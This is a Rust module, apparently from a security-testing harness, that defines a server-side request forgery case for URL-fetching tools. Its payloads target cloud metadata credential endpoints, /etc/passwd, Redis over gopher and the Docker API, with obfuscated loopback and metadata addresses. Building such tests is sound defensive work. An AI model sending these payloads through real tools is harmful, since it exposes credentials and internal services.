//! Well-meant tools that fetch, and addresses that nobody outside should reach.

use super::attack::{Attack, Tool};

pub(crate) fn attack() -> Attack {
    Attack::new(
        "ssrf",
        "addresses of the inner network and of metadata services",
        vec![
            Tool::harmless("fetch_url", "Fetches a page.", "url").attacked(
                "url",
                &[
                    "http://169.254.169.254/latest/meta-data/iam/security-credentials/?{mark}",
                    "http://metadata.google.internal/computeMetadata/v1/?{mark}",
                    "file:///etc/passwd#{mark}",
                ],
            ),
            Tool::harmless("check_availability", "Tells whether a site is up.", "url").attacked(
                "url",
                &["http://[::ffff:169.254.169.254]/{mark}", "http://0x7f000001:6379/{mark}"],
            ),
            Tool::harmless("proxy_request", "Sends a request.", "url body").attacked(
                "url",
                &["gopher://127.0.0.1:6379/_SET%20x%201?{mark}", "http://2852039166/latest/meta-data/{mark}"],
            ),
            Tool::harmless("validate_webhook", "Tests a webhook.", "url").attacked(
                "url",
                &[
                    "http://localhost:2375/containers/json?{mark}",
                    "http://example.com@127.0.0.1:8080/admin/{mark}",
                ],
            ),
        ],
    )
}
